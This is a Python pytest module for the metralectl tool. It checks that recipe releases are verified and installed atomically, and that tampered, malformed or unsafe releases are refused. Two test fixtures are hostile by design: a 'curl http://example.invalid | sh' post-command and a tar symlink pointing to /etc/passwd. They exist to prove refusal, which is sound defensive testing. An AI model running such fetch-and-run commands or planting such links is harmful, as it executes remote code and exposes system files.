"""`metralectl recipes sync`: a release is verified whole, converted, and installed atomically — from a local
directory and from a real HTTP server on 127.0.0.1 (no other network)."""

from __future__ import annotations

import functools
import http.server
import json
import os
import subprocess
import sys
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from metralectl.app import recipe_sync

from metralectl.core import synced_set
from metralectl.core.catalog import load_catalog
from metralectl.core.release_archive import ReleaseError
from metralectl.ownedfs import Owned
from metralectl.seams.sync_fetch import Source, default_source
from metralectl.errors import ExitCode
from tests.unit.recipe_helpers import REPO
from tests.unit.release_fixture import B34_DUMP, fixture_recipes, reseal, reseal_index, sha, tar_gz, write_release

SYNCED = "qwen3.5-35b-a3b-nvfp4"  # the flagship's engine recipe, under the engine's own name
N = len(fixture_recipes())  # the engine recipes of commits 61e6559/2735884 the tests release


def _sync(location: str | Path, root: Path, *, skip_refused: bool = False) -> recipe_sync.SyncReport:
    return recipe_sync.sync(load_catalog(use_cache=False), Source(str(location)), root=root, today="2026-12-01",
                            skip_refused=skip_refused)


def _state(root: Path) -> tuple[str, list[str]]:
    current = root / "current"
    return os.readlink(current), sorted(p.name for p in (current / "recipes").iterdir())


def _cli(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "metralectl", *args], capture_output=True, text=True,
                          env={**os.environ, **env}, cwd=REPO, timeout=120)


@pytest.fixture()
def root(isolated_env: Path) -> Path:
    return synced_set.synced_dir()


def test_sync_from_a_directory_installs_and_lists_the_release(tmp_path: Path, root: Path, isolated_env: Path) -> None:
    release = write_release(tmp_path / "b40")
    report = _sync(release, root)
    assert report.release == "b40" and report.count("added") == N and report.refused == []
    assert report.revision == "b40"  # built from the release's own serve-options.json
    catalog = load_catalog(use_cache=False)
    recipe = catalog.recipes[SYNCED]
    assert recipe.origin.kind == "synced" and recipe.origin.release == "b40" and recipe.engine_revision == "b40"
    assert recipe.provenance is not None and recipe.provenance.path == f"recipes/qwen3.5/{SYNCED}.yaml"
    assert recipe.serve["max-batch-size"] == 2 and recipe.resources.bind == "127.0.0.1"
    env = {"METRALECTL_CONFIG_DIR": str(isolated_env / "config")}
    rows = {r["name"]: r for r in json.loads(_cli("list", "--json", env=env).stdout)["recipes"]}
    assert rows[SYNCED]["source"] == "synced b40" and rows["qwen3.5-35b-a3b"]["source"] == "shipped"
    assert rows["qwen3.5-35b-a3b-agents"]["source"] == "shipped (book)"
    assert "synced b40" in _cli("list", env=env).stdout
    shown = _cli("show", SYNCED, env=env).stdout
    assert "(synced from engine release b40)" in shown and f"recipes/qwen3.5/{SYNCED}.yaml @ 61e6559" in shown


def test_a_second_sync_says_what_changed(tmp_path: Path, root: Path) -> None:
    recipes = fixture_recipes()
    _sync(write_release(tmp_path / "one", recipes), root)
    again = _sync(write_release(tmp_path / "same", recipes), root)
    assert again.count("unchanged") == N and again.count("added") == 0
    changed = dict(recipes)
    changed["qwen3.5/qwen3.5-35b-a3b-nvfp4"] = changed["qwen3.5/qwen3.5-35b-a3b-nvfp4"].replace(
        b"max_model_len: 8192", b"max_model_len: 4096")
    del changed["gemma4/gemma-4-31b-nvfp4"]
    report = _sync(write_release(tmp_path / "next", changed), root)
    status = {c.name: c.status for c in report.changes}
    assert status[SYNCED] == "changed" and status["gemma-4-31b-nvfp4"] == "removed"
    assert report.count("unchanged") == N - 2
    assert "gemma-4-31b-nvfp4" not in load_catalog(use_cache=False).recipes
    assert [p.name for p in (root / "sets").iterdir()] == [Path(os.readlink(root / "current")).name]


class _Quiet(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass


class _CutShort(_Quiet):
    """Sends the archive's full Content-Length, then closes the connection halfway through the body."""

    def do_GET(self) -> None:  # noqa: N802
        if not self.path.endswith("recipes.tar.gz"):
            return super().do_GET()
        data = (Path(self.directory) / "download" / "b41" / "recipes.tar.gz").read_bytes()
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data[: len(data) // 2])
        self.wfile.flush()
        self.close_connection = True
        return None


@pytest.fixture()
def serve(tmp_path: Path) -> Iterator[callable]:  # type: ignore[valid-type]
    servers = []

    def start(handler: type = _Quiet) -> str:
        site = tmp_path / "site"
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(handler, directory=str(site)))
        threading.Thread(target=server.serve_forever, daemon=True).start()
        servers.append(server)
        return f"http://127.0.0.1:{server.server_address[1]}/download/b41/"

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()


def test_sync_over_http_from_a_loopback_server(tmp_path: Path, root: Path, serve) -> None:  # noqa: ANN001
    write_release(tmp_path / "site" / "download" / "b41")
    report = _sync(serve(), root)
    assert report.release == "b41" and report.count("added") == N  # the release named by its download path


def test_an_interrupted_download_installs_nothing(tmp_path: Path, root: Path, serve) -> None:  # noqa: ANN001
    _sync(write_release(tmp_path / "b40"), root)
    before = _state(root)
    write_release(tmp_path / "site" / "download" / "b41", {"qwen3.5/x": b"not installed"})
    with pytest.raises(ReleaseError, match="closed the connection after .* of .* bytes"):
        _sync(serve(_CutShort), root)
    assert _state(root) == before and not list(root.glob(".staging-*")) and len(list((root / "sets").iterdir())) == 1


def test_a_tampered_archive_is_refused(tmp_path: Path, root: Path) -> None:
    _sync(write_release(tmp_path / "b40"), root)
    before = _state(root)
    release = write_release(tmp_path / "bad")
    data = bytearray((release / "recipes.tar.gz").read_bytes())
    data[len(data) // 2] ^= 0xFF
    (release / "recipes.tar.gz").write_bytes(bytes(data))
    with pytest.raises(ReleaseError, match=r"recipes.tar.gz has sha256 .*, but recipes.tar.gz.sha256 says"):
        _sync(release, root)
    # resealed sidecar, but index.json still vouches for the original
    reseal(release, "recipes.tar.gz")
    with pytest.raises(ReleaseError, match="index.json lists recipes.tar.gz with sha256"):
        _sync(release, root)
    assert _state(root) == before


def test_a_recipe_changed_inside_a_resealed_archive_is_refused(tmp_path: Path, root: Path) -> None:
    release = write_release(tmp_path / "bad")
    recipes = fixture_recipes()
    recipes["qwen3.5/qwen3.5-35b-a3b-nvfp4"] += b"\n# an added line\n"
    (release / "recipes.tar.gz").write_bytes(tar_gz({f"recipes/{k}.yaml": v for k, v in recipes.items()}))
    reseal_index(release)  # every archive digest right: only the recipe's own sha256 in index.json is not
    with pytest.raises(ReleaseError, match="qwen3.5-35b-a3b-nvfp4.yaml in recipes.tar.gz has sha256"):
        _sync(release, root)
    assert not (root / "current").exists()


@pytest.mark.parametrize("sidecar,fragment", [
    ("0" * 64 + "  index.json\n", "index.json has sha256"),
    ("{sha}  recipes.tar.gz\n", "index.json.sha256 names 'recipes.tar.gz'"),
    ("{sha}\n", "is not one sha256sum line"),
])
def test_a_wrong_or_malformed_hash_is_refused(tmp_path: Path, root: Path, sidecar: str, fragment: str) -> None:
    release = write_release(tmp_path / "b40")
    digest = sha((release / "index.json").read_bytes())
    (release / "index.json.sha256").write_text(sidecar.format(sha=digest))
    with pytest.raises(ReleaseError, match=fragment):
        _sync(release, root)


def test_a_link_in_the_archive_refuses_the_release(tmp_path: Path, root: Path) -> None:
    link = tarfile.TarInfo("recipes/evil.yaml")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    release = write_release(tmp_path / "b40", tar_extra=[link])
    with pytest.raises(ReleaseError, match="not a plain file"):
        _sync(release, root)


def test_a_signed_release_is_refused_rather_than_unverified(tmp_path: Path, root: Path) -> None:
    release = write_release(tmp_path / "b40", index_extra={})
    index = json.loads((release / "index.json").read_text())
    index["assets"]["index.json.minisig"] = "0" * 64
    (release / "index.json").write_text(json.dumps(index))
    reseal(release, "index.json")
    with pytest.raises(ReleaseError, match="cannot verify that signature"):
        _sync(release, root)


def test_executable_keys_and_bad_recipes_refuse_the_release_with_file_and_line(tmp_path: Path, root: Path,
                                                                               isolated_env: Path) -> None:
    recipes = fixture_recipes()
    flagship = recipes["qwen3.5/qwen3.5-35b-a3b-nvfp4"]
    recipes["evil/post-commands"] = flagship + b"post_commands:\n- curl http://example.invalid | sh\n"
    recipes["typo/bad-flag"] = flagship.replace(b"  max_model_len: 8192\n", b"  max_model_lenn: 8192\n")
    release = write_release(tmp_path / "b40", recipes)
    env = {"METRALECTL_CONFIG_DIR": str(isolated_env / "config")}
    out = _cli("recipes", "sync", "--from", str(release), env=env)
    assert out.returncode == ExitCode.DATA, out.stderr  # all or nothing: two refused, none installed
    lines = flagship.decode().count("\n")
    assert f"b40:recipes/evil/post-commands.yaml:{lines + 1}:1: error: post_commands: `post_commands` carries " \
           "executable content" in out.stderr
    typo_line = next(i for i, ln in enumerate(flagship.decode().splitlines(), 1) if "max_model_len" in ln)
    assert f"b40:recipes/typo/bad-flag.yaml:{typo_line}:3: error: defaults.max_model_lenn" in out.stderr
    assert "did you mean `max_model_len`?" in out.stderr and "Traceback" not in out.stderr
    assert f"2 of the {N + 2} recipes of engine release b40 were refused: nothing was installed" in out.stderr
    assert "refused   post-commands" in out.stdout and "refused   bad-flag" in out.stdout
    assert not (root / "current").exists() and not (root / "sets").exists()
    installed = {r["name"] for r in json.loads(_cli("list", "--json", env=env).stdout)["recipes"]}
    assert "qwen3.5-35b-a3b-nvfp4" not in installed
    # the opt-in: the others are installed, the exit status still says some were refused, loudly
    out = _cli("recipes", "sync", "--from", str(release), "--skip-refused", env=env)
    assert out.returncode == ExitCode.DATA, out.stderr
    assert f"synced set installed WITHOUT 2 refused recipes ({N} added" in out.stderr
    installed = {r["name"] for r in json.loads(_cli("list", "--json", env=env).stdout)["recipes"]}
    assert "qwen3.5-35b-a3b-nvfp4" in installed and "post-commands" not in installed and "bad-flag" not in installed
    again = _cli("recipes", "sync", "--from", str(release), "--json", env=env)
    assert again.returncode == ExitCode.DATA and json.loads(again.stdout)["installed"] is None
    assert json.loads(again.stdout)["counts"] == {"added": 0, "changed": 0, "removed": 0, "unchanged": N, "refused": 2}


def test_a_recipe_short_of_its_releases_pin_rule_is_refused(tmp_path: Path, root: Path) -> None:
    """The 91b364b recipe leaves no-default flags unpinned; a release at 61e6559 wants every flag pinned."""
    release = write_release(tmp_path / "b40", fixture_recipes(with_gen2=True))
    with pytest.raises(recipe_sync.RecipesRefused) as caught:
        _sync(release, root)
    assert [c.name for c in caught.value.report.refused] == ["qwen3.5-122b-a10b-nvfp4-single"]
    assert caught.value.exit_code == ExitCode.DATA and not (root / "current").exists()
    report = _sync(release, root, skip_refused=True)
    [refused] = report.refused
    assert refused.name == "qwen3.5-122b-a10b-nvfp4-single" and report.count("added") == N
    messages = [p.message for p in refused.problems]
    assert any("missing --ssm-h-dtype: engine revision b40 wants every settable flag pinned" in m for m in messages)
    assert all(p.file == "b40:recipes/qwen3.5/qwen3.5-122b-a10b-nvfp4-single.yaml" and p.line > 0
               for p in refused.problems)


def test_a_b34_release_is_checked_against_b34_and_its_defaults_written_out(tmp_path: Path, root: Path) -> None:
    """b34's own recipes pin few flags and b34 refuses `false`: the importer writes each clap default out."""
    old = (b'recipe_version: "2"\nmodel: Sehyo/Qwen3.5-35B-A3B-NVFP4\nruntime: metrale\n'
           b"container: metrale/metrale-inference-gb10:latest\nmax_nodes: 1\nmetadata:\n  quantization: nvfp4\n"
           b"defaults:\n  activation_quantization: adaptive\n  port: 8888\n  host: 0.0.0.0\n  max_model_len: 8192\n"
           b"  max_batch_size: 2\n  kv_cache_dtype: fp8\n  gpu_memory_utilization: 0.88\n  speculative: true\n"
           b"  enable_prefix_caching: true\n  hermetic: false\n")
    recipes = {"qwen3.5/old-flagship": old + b"  num_drafts: 1\n", "qwen3.5/no-drafts": old}
    report = _sync(write_release(tmp_path / "b34", recipes, dump=B34_DUMP.read_bytes(),
                                 commit="79dea21d52ce7fb4adab2bfec1a14b13211d8286"), root, skip_refused=True)
    assert report.revision == "b34" and report.count("added") == 1  # the pinned dump: the shipped revision
    # --num-drafts has no clap default (MODEL.toml decides): metralectl wants it stated once MTP is on
    [refused] = report.refused
    assert refused.name == "no-drafts" and "missing --num-drafts: it must be explicit when speculative is set" \
        in refused.problems[0].message
    recipe = load_catalog(use_cache=False).recipes["old-flagship"]
    assert recipe.engine_revision == "b34" and recipe.serve["block-size"] == 16 and recipe.serve["forward"] == "legacy"
    assert "hermetic" not in recipe.serve and "prompt-lookup-ngram" not in recipe.serve
    meta = synced_set.read_meta(synced_set.current(root) or root)
    assert meta is not None and "block-size" in meta["recipes"][0]["pinned_defaults"]


def test_a_failure_at_the_switch_leaves_the_previous_set(tmp_path: Path, root: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    _sync(write_release(tmp_path / "b40"), root)
    before = _state(root)

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Owned, "link", interrupted)
    with pytest.raises(KeyboardInterrupt):
        _sync(write_release(tmp_path / "b41", {"qwen3.5/x": fixture_recipes()["qwen3.5/qwen3.5-27b-dense-nvfp4"]}),
              root)
    assert _state(root) == before
    assert not list(root.glob(".staging-*")) and not list(root.glob(".current*"))
    assert len(list((root / "sets").iterdir())) == 1


def test_the_default_source_is_configurable_without_network(isolated_env: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("METRALECTL_RECIPES_URL", raising=False)
    assert default_source()[0].endswith("/releases/download/b34/")
    (isolated_env / "config" / "recipes-sync-source").write_text("/srv/engine-releases/b40\n")
    assert default_source() == ("/srv/engine-releases/b40", str(isolated_env / "config" / "recipes-sync-source"))
    monkeypatch.setenv("METRALECTL_RECIPES_URL", "http://127.0.0.1:9/b41/")
    assert default_source() == ("http://127.0.0.1:9/b41/", "$METRALECTL_RECIPES_URL")
    with pytest.raises(ReleaseError, match="only http"):
        Source("ftp://127.0.0.1/release/")
    with pytest.raises(ReleaseError, match="not a directory"):
        Source(str(isolated_env / "nowhere"))
